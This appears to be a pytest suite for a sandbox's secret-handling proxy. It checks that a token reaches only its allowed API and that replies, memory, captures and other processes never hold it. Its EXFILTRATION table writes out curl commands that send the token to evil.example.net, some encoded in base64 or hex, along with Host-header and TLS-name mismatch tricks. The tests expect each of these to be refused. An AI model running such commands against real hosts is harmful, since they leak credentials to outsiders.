# SPDX-License-Identifier: Apache-2.0
"""Secrets: the value reaches the allowed API in each place, and nothing and nobody else."""

import base64
import json
import os
import subprocess

import pytest
from conftest import SLACK, masked, sanitized, wait_for

import world

ALL = "header,basic,query,path,body"
EVERYTHING = {"policy": {"default_egress": "allow"}}


def secret(places=None, host="api.example.com"):
    return ["--secret", "LAB_TOKEN%s@%s" % (":" + places if places else "", host)]


PLACES = {
    "header": "curl -sS -H \"Authorization: Bearer $LAB_TOKEN\" https://api.example.com/x",
    "basic": "curl -sS -u \"me:$LAB_TOKEN\" https://api.example.com/x",
    "query": "curl -sS \"https://api.example.com/x?a=1&key=$LAB_TOKEN&b=2\"",
    "path": "curl -sS \"https://api.example.com/k/$LAB_TOKEN/x\"",
    "body": "curl -sS -d \"{\\\"key\\\": \\\"$LAB_TOKEN\\\"}\" https://api.example.com/x",
}


# Parity: weak-18.
@pytest.mark.user
@pytest.mark.parametrize("place", PLACES)
def test_value_arrives_in_the_place(weir, lab, place):
    r = weir.sh(PLACES[place], flags=secret(place))
    assert r.rc == 0 and r.json["token_in"] == [place], r
    assert lab.token not in r.out + r.err, "the reply was not scrubbed"
    assert [e for e in lab.seen("http") if lab.token in e["head"] + e["body"] or place == "basic"]
    used = r.find("secret", event="used")
    assert used and used[0]["secret"] == "LAB_TOKEN" and used[0]["place"] == place, r
    assert lab.token.encode() not in r.record


def test_default_places_are_header_and_basic(weir):
    script = "; ".join("%s; echo" % c.replace("-sS", "-sS -o /dev/null -w '%{http_code}'")
                       for c in PLACES.values())
    r = weir.sh(script, flags=secret())
    assert r.out.split() == ["200", "200", "403", "403", "403"], r
    assert {e["place"] for e in r.find("secret", event="violation")} == {"query", "path", "body"}, r


@pytest.mark.parametrize("how", ["length", "chunked"])
def test_bodies_of_any_size(weir, lab, how):
    """The placeholder sits in the middle of a body far bigger than any buffer."""
    header = "-H 'Transfer-Encoding: chunked'" if how == "chunked" else ""
    r = weir.sh("(head -c 9000000 /dev/zero; printf %%s \"$LAB_TOKEN\"; head -c 9000000 /dev/zero)"
                " > %s/b; curl -sS %s --data-binary @%s/b https://files.example.com/x" % (
                    weir.tmp, header, weir.tmp),
                flags=secret("body", "files.example.com"))
    import hashlib
    want = hashlib.sha256(b"\0" * 9000000 + lab.token.encode() + b"\0" * 9000000).hexdigest()
    assert r.json == {"size": 18000000 + len(lab.token), "sha256": want}, r


def test_split_placeholder_is_whole_again_where_allowed(weir, lab):
    for how in ("segments", "chunks"):
        r = weir.guest("split", "api.example.com", "/x", "LAB_TOKEN", how, flags=secret("body"))
        assert '"token_in": ["body"]' in r.json["text"], (how, r)


@pytest.mark.machine
def test_keep_alive_and_pipelining_with_secrets(weir, lab):
    head = "GET /%d HTTP/1.1\r\nHost: api.example.com\r\nAuthorization: Bearer ${LAB_TOKEN}\r\n%s\r\n"
    text = "".join(head % (i, "Connection: close\r\n" if i == 4 else "") for i in range(5))
    r = weir.guest("raw", "api.example.com", 443, "api.example.com", json.dumps([text]),
                   flags=secret())
    assert r.json["text"].count('"authorized": true') == 5, r


# Parity: weak-19.
def test_placeholder_has_the_values_length_and_is_new_each_time(weir, lab):
    a, b = (weir.sh("printf %s \"$LAB_TOKEN\"", flags=secret()).out for _ in "12")
    assert len(a) == len(lab.token) == len(b) and a != b and lab.token not in (a, b)


# Parity: weak-21.
def test_value_from_a_file(weir, lab):
    path = weir.file("key", lab.token + "\n")
    r = weir.sh("curl -sS -H \"Authorization: Bearer $KEY\" https://api.example.com/x",
                flags=["--secret-file", "KEY=%s@api.example.com" % path])
    assert r.json["authorized"] is True, r


@pytest.mark.user
@pytest.mark.machine
def test_value_is_nowhere_in_the_sandbox(weir, lab):
    """Every readable byte of every process, their environments, files and the record."""
    script = (PLACES["header"] + " >/dev/null; env; "
              "curl -sS \"https://slow.example.com/drip?n=200&ms=50\" >/dev/null & "
              "/usr/bin/python3 -c \"import os,time; k=os.environ['LAB_TOKEN']; time.sleep(9)\" & "
              "sleep 0.5; /usr/bin/python3 %(g)s scan %(m)s; "
              "/usr/bin/python3 %(g)s files %(m)s /etc /run /tmp /dev/shm /proc/1 %(t)s; kill %%1 %%2"
              % {"t": weir.tmp, "g": lab.guest, "m": masked(lab.token)})
    r = weir.run("bash", "-c", script, flags=secret())
    scan, files = [json.loads(x) for x in r.out.splitlines() if x.startswith("{")]
    assert scan["found"] == [], scan
    assert scan["scanned"] > 1 << 20, scan
    assert files["found"] == [] and files["files"] > 10, r
    assert "LAB_TOKEN=" in r.out, r
    assert lab.token.encode() not in r.record
    assert lab.token not in r.out + r.err


def test_only_the_tlsproxy_holds_the_value(weir, lab):
    """Seen from outside: gateway, supervisor and sandbox processes do not have it."""
    if sanitized():
        pytest.skip("a sanitizer's runtime keeps its own copy of the environment")
    p = weir.start("sh", "-c", PLACES["header"] + "; echo; echo ready; sleep 600", flags=secret())
    try:
        for line in p.stdout:
            if line == b"ready\n":
                break
        children = subprocess.run(["ps", "-eo", "pid,ppid,args"], capture_output=True, text=True,
                                  check=True).stdout
        scan = json.loads(subprocess.run(
            ["/usr/bin/python3", lab.guest, "scan", masked(lab.token)],
            capture_output=True, text=True, check=True).stdout)
        mine = descendants(p.pid)
        holders = {int(f.split()[0]) for f in scan["found"]} & set(mine)
        assert len(holders) == 1 and p.pid not in holders, (scan["found"], children)
        assert os.path.basename(os.readlink("/proc/%d/exe" % holders.pop())) == "weir", children
    finally:
        p.terminate()
        p.wait(10 * SLACK)


def test_values_do_not_linger_in_the_tlsproxys_heap(weir, lab):
    """After use they are in the memory that is locked and left out of dumps, and only there."""
    if sanitized():
        pytest.skip("a sanitizer's runtime keeps its own copy of the environment")
    code = ("import http.client, os, sys\n"
            "c = http.client.HTTPSConnection('api.example.com')\n"
            "k = os.environ['LAB_TOKEN']\n"
            "for m, p, b in (('GET', '/leak', None), ('POST', '/x', k * 200), ('GET', '/leak', None)):\n"
            "    c.request(m, p, b, {'Authorization': 'Bearer ' + k})\n"
            "    c.getresponse().read()\n"
            "print('ready', flush=True); sys.stdin.read()")
    p = weir.start("/usr/bin/python3", "-c", code, flags=secret(ALL), stdin=subprocess.PIPE)
    try:
        assert p.stdout.readline() == b"ready\n"
        scan = json.loads(subprocess.run(
            ["/usr/bin/python3", lab.guest, "scan", masked(lab.token)],
            capture_output=True, text=True, check=True).stdout)
        holders = {int(f.split()[0]) for f in scan["found"]} & set(descendants(p.pid))
        assert len(holders) == 1, scan["found"]
        for pid in holders:
            assert unlocked_with(pid, lab.token.encode()) == []
    finally:
        p.stdin.close()
        p.wait(10 * SLACK)


def unlocked_with(pid, needle):
    """Mappings of a process that hold the bytes and are not both locked and kept out of dumps."""
    found, span = [], None
    with open("/proc/%d/smaps" % pid, encoding="utf-8") as smaps, \
            open("/proc/%d/mem" % pid, "rb", 0) as mem:
        for line in smaps:
            words = line.split()
            if "-" in words[0]:
                span, name = words[0], words[-1]
            elif words[0] == "VmFlags:" and not {"lo", "dd"} <= set(words) and "rd" in words:
                lo, hi = (int(x, 16) for x in span.split("-"))
                try:
                    mem.seek(lo)
                    if needle in mem.read(hi - lo):
                        found.append((span, name))
                except (OSError, ValueError, OverflowError):
                    continue
    return found


def command(pid):
    try:
        with open("/proc/%d/cmdline" % pid, "rb") as f:
            return f.read().replace(b"\0", b" ").decode()
    except OSError:
        return ""


def descendants(root):
    parents = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open("/proc/%s/stat" % pid, encoding="utf-8", errors="replace") as f:
                parents[int(pid)] = int(f.read().rpartition(")")[2].split()[1])
        except OSError:
            pass
    out, todo = [root], [root]
    while todo:
        top = todo.pop()
        kids = [p for p, up in parents.items() if up == top]
        out += kids
        todo += kids
    return out


# ---- refusals: nothing of the value arrives anywhere, and each is on the record ------------


def refused(r, lab, kinds=("secret",), server=None):
    assert lab.token not in lab.seen_text(), "the value got out"
    assert [e for e in r.events if e["kind"] in kinds and (
        e.get("event") == "violation" or e.get("verdict") in ("deny", "fail") or
        e.get("outcome") not in (None, "forwarded"))], r
    if server:
        whole_requests_to(lab, server)


def whole_requests_to(lab, server):
    """A head may have gone before its body was read; a request never arrives whole."""
    seen = [e for e in lab.seen("http", server=server) if "broken" not in e]
    assert not seen, seen


EXFILTRATION = {
    "header": "-H \"X-Key: $LAB_TOKEN\" https://evil.example.net/",
    "bearer": "-H \"Authorization: Bearer $LAB_TOKEN\" https://evil.example.net/",
    "query": "\"https://evil.example.net/?k=$LAB_TOKEN\"",
    "path": "\"https://evil.example.net/$LAB_TOKEN\"",
    "basic": "-u \"x:$LAB_TOKEN\" https://evil.example.net/",
    "body": "-d \"$LAB_TOKEN\" https://evil.example.net/",
    "cookie": "-b \"k=$LAB_TOKEN\" https://evil.example.net/",
    "percent": "\"https://evil.example.net/?k=$(printf %s \"$LAB_TOKEN\" | od -An -tx1 | tr -d '\\n' "
               "| sed 's/ /%/g')\"",
    "base64": "-H \"X: $(printf %s \"$LAB_TOKEN\" | base64 -w0)\" https://evil.example.net/",
    "base64-body": "-d \"$(printf 'ab%s' \"$LAB_TOKEN\" | base64 -w0)\" https://evil.example.net/",
    "hex": "-d \"$(printf %s \"$LAB_TOKEN\" | od -An -tx1 | tr -d ' \\n')\" https://evil.example.net/",
    "plain-http": "-H \"Authorization: Bearer $LAB_TOKEN\" http://evil.example.net/",
    "plain-http-own-host": "-H \"Authorization: Bearer $LAB_TOKEN\" http://api.example.com/",
    "trace": "-X TRACE -H \"Authorization: Bearer $LAB_TOKEN\" https://api.example.com/",
}


@pytest.mark.parametrize("how", EXFILTRATION)
def test_seen_elsewhere_is_refused_and_on_the_record(weir, lab, how):
    r = weir.sh("curl -sS -o /dev/null -w '%%{http_code}' -m 10 %s" % EXFILTRATION[how],
                policy=EVERYTHING, flags=secret(ALL))
    refused(r, lab, server="evil.example.net")
    assert r.out in ("403", "000"), r
    v = r.find("secret", event="violation")
    assert v and v[0]["secret"] == "LAB_TOKEN" and v[0]["denial"], r
    assert not [e for e in lab.seen("http") if e["server"] == "api.example.com"], lab.seen("http")


@pytest.mark.parametrize("how", ["segments", "chunks"])
def test_split_placeholder_is_still_seen(weir, lab, how):
    r = weir.guest("split", "evil.example.net", "/x", "LAB_TOKEN", how, policy=EVERYTHING,
                   flags=secret(ALL))
    refused(r, lab)
    whole_requests_to(lab, "evil.example.net")


# Parity: lesson-06, weak-16.
def test_wrong_host_header(weir, lab):
    r = weir.sh("curl -sS -o /dev/null -w '%{http_code}' -H 'Host: evil.example.net' "
                "-H \"Authorization: Bearer $LAB_TOKEN\" https://api.example.com/",
                policy=EVERYTHING, flags=secret(ALL))
    assert r.out in ("421", "403"), r
    assert r.find("http", outcome="misdirected", host="evil.example.net"), r
    refused(r, lab, kinds=("http", "secret"), server="api.example.com")


# Parity: lesson-06.
@pytest.mark.parametrize("name,real", [("evil.example.net", "api.example.com"),
                                       ("api.example.com", "evil.example.net")])
def test_wrong_server_name(weir, lab, name, real):
    """The TLS name is not the name that the address was given out for."""
    r = weir.sh("curl -sS -k -m 10 --connect-to %s:443:%s:443 -H \"Authorization: Bearer "
                "$LAB_TOKEN\" https://%s/" % (name, real, name), policy=EVERYTHING,
                flags=secret(ALL))
    refused(r, lab, kinds=("tls", "http", "secret"))
    assert not lab.seen("http"), lab.seen("http")


def test_other_name_inside_the_tls_of_the_right_one(weir, lab):
    r = weir.sh("printf 'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nAuthorization: Bearer %s"
                "\\r\\n\\r\\n' \"$LAB_TOKEN\" | timeout 5 openssl s_client -quiet -servername "
                "evil.example.net -connect api.example.com:443 2>/dev/null", policy=EVERYTHING,
                flags=secret(ALL))
    refused(r, lab, kinds=("tls", "http", "secret"))
    assert not lab.seen("http"), lab.seen("http")


# Parity: weak-11.
@pytest.mark.parametrize("url", ["https://%s/" % world.v4("api.example.com"),
                                 "https://[%s]/" % world.v6("api.example.com")])
def test_address_literal(weir, lab, url):
    r = weir.sh("curl -sSk -g -m 10 -H \"Authorization: Bearer $LAB_TOKEN\" '%s'" % url,
                policy=EVERYTHING, flags=secret(ALL))
    refused(r, lab, kinds=("tls", "http", "secret"))


def test_host_and_target_disagree(weir, lab):
    text = ("GET https://evil.example.net/ HTTP/1.1\r\nHost: api.example.com\r\n"
            "Authorization: Bearer ${LAB_TOKEN}\r\n\r\n")
    r = weir.guest("raw", "api.example.com", 443, "api.example.com", json.dumps([text]),
                   policy=EVERYTHING, flags=secret(ALL))
    refused(r, lab, kinds=("http", "secret"), server="api.example.com")


def test_bad_upstream_certificate_gets_no_secret(weir, lab):
    r = weir.sh("curl -sSk -m 10 -H \"X: $LAB_TOKEN\" https://self-signed.example.com/",
                policy=EVERYTHING, flags=secret(ALL, "self-signed.example.com"))
    refused(r, lab, kinds=("tls", "http", "secret"), server="self-signed.example.com")


# Parity: weak-17.
def test_replies_are_scrubbed(weir, lab):
    r = weir.sh("curl -sSi -H \"Authorization: Bearer $LAB_TOKEN\" https://api.example.com/leak; "
                "echo; echo \"MINE $LAB_TOKEN\"", flags=secret())
    mine = r.out.split("MINE ")[1].strip()
    assert lab.token not in r.out, r
    assert base64.b64encode(lab.token.encode()).decode() not in r.out, r
    assert r.out.count(mine) >= 3, r  # X-Leak, the body, our own line


# Parity: weak-17.
def test_websocket_replies_are_scrubbed(weir, lab):
    text = ("GET /ws HTTP/1.1\r\nHost: api.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket"
            "\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Extensions: permessage-deflate\r\n"
            "Authorization: Bearer ${LAB_TOKEN}\r\n\r\n")
    r = weir.guest("raw", "api.example.com", 443, "api.example.com", json.dumps([text]),
                   flags=secret())
    assert " 101 " in r.json["text"] and "Bearer " in r.json["text"], r
    assert lab.token not in r.out, r
    seen = lab.seen("http", server="api.example.com")
    assert lab.token in seen[0]["head"] and "permessage-deflate" in seen[0]["head"], seen


def test_terminate(weir, lab):
    config = {"policy": {"default_egress": "allow"}, "secrets": [
        {"env": "LAB_TOKEN", "from": "env:LAB_TOKEN", "hosts": ["api.example.com"],
         "on_violation": "block_and_terminate"}]}
    r = weir.sh("curl -sS -m 5 -H \"X: $LAB_TOKEN\" https://evil.example.net/; sleep 20; echo alive",
                policy=None, flags=["--config", weir.file("c.json", config)])
    assert "alive" not in r.out and r.rc != 0 and r.seconds < 15 * SLACK, r
    refused(r, lab, server="evil.example.net")


# Parity: weak-20.
def test_passthrough_forwards_the_placeholder(weir, lab):
    config = {"policy": {"default_egress": "allow"}, "secrets": [
        {"env": "LAB_TOKEN", "from": "env:LAB_TOKEN", "hosts": ["api.example.com"],
         "on_violation": "passthrough"}]}
    r = weir.sh("curl -sS -m 5 -H \"X: $LAB_TOKEN\" https://evil.example.net/; echo \"MINE $LAB_TOKEN\"",
                policy=None, flags=["--config", weir.file("c.json", config)])
    mine = r.out.split("MINE ")[1].strip()
    assert [e for e in lab.seen("http", server="evil.example.net") if mine in e["head"]], r
    assert lab.token not in lab.seen_text()


@pytest.mark.parametrize("value", ["s3cr3t!", " begins-with-space", "tab\there-and-more", "x" * 5000,
                                   "non-ascii-é-value"],
                         ids=["short", "space", "tab", "long", "non-ascii"])
def test_values_that_cannot_be_used_are_refused(weir, value):
    r = weir.run("true", flags=["--secret", "BAD@api.example.com"], env={"BAD": value})
    assert r.rc == 125 and "BAD" in r.err and value not in r.err, r


# Parity: lesson-40.
def test_unset_variable_is_an_error(weir):
    r = weir.run("true", flags=["--secret", "NOT_SET_AT_ALL@api.example.com"])
    assert r.rc == 125 and "NOT_SET_AT_ALL" in r.err, r


# Parity: t02.
def test_bypassed_host_is_spliced(weir, lab):
    r = weir.sh("curl -sS --cacert %s https://files.example.com/bytes/10 | wc -c; "
                "curl -sS -o /dev/null -w '%%{http_code}' https://api.example.com/" % lab.ca,
                intercept=True, flags=["--tls-bypass", "files.example.com"])
    assert r.out.split() == ["10", "200"], r


def test_capture_holds_placeholders_only(weir, lab):
    path = os.path.join(weir.tmp, "c.pcapng")
    weir.sh(PLACES["header"], flags=secret() + ["--capture", path])
    assert wait_for(lambda: os.path.getsize(path) > 1000)
    with open(path, "rb") as f:
        assert lab.token.encode() not in f.read()
